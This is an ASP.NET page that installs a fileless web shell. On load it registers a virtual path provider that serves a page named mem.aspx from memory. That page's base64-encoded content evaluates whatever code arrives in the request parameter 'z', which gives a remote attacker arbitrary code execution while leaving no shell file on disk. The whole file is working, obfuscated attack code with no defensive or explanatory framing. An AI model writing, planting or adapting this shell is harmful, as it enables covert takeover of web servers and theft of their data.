<%@ Page Language="C#" %>
<%@ Import Namespace="System.Web.Hosting" %>
<script runat="server">
    // serves a page that exists only in memory: the file never touches the disk
    public class MemoryFile : VirtualFile
    {
        public MemoryFile(string p) : base(p) { }
        public override System.IO.Stream Open()
        {
            byte[] b = Convert.FromBase64String("PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiJT48JWV2YWwoUmVxdWVzdC5JdGVtWyJ6Il0sInVuc2FmZSIpOyU+");
            return new System.IO.MemoryStream(b);
        }
    }
    public class MemoryProvider : VirtualPathProvider
    {
        public override bool FileExists(string p) { return p.EndsWith("/mem.aspx") || Previous.FileExists(p); }
        public override VirtualFile GetFile(string p) { return p.EndsWith("/mem.aspx") ? new MemoryFile(p) : Previous.GetFile(p); }
    }
    void Page_Load(object sender, EventArgs e)
    {
        HostingEnvironment.RegisterVirtualPathProvider(new MemoryProvider());
        Response.Write("ok");
    }
</script>
